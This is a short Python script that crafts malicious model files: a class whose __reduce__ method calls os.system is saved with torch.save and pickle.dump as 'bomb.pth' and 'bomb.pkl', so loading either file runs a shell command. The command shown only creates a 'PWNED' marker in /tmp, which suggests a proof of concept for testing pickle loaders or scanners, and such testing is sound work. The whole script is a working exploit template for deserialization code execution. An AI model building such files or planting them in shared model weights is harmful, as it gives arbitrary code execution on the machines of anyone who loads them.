import torch,os,pickle
class B:
    def __reduce__(self): return (os.system,('touch /tmp/cold/PWNED',))
torch.save({'model':B()},'/tmp/cold/bomb.pth'); pickle.dump({'model':B()},open('/tmp/cold/bomb.pkl','wb'))
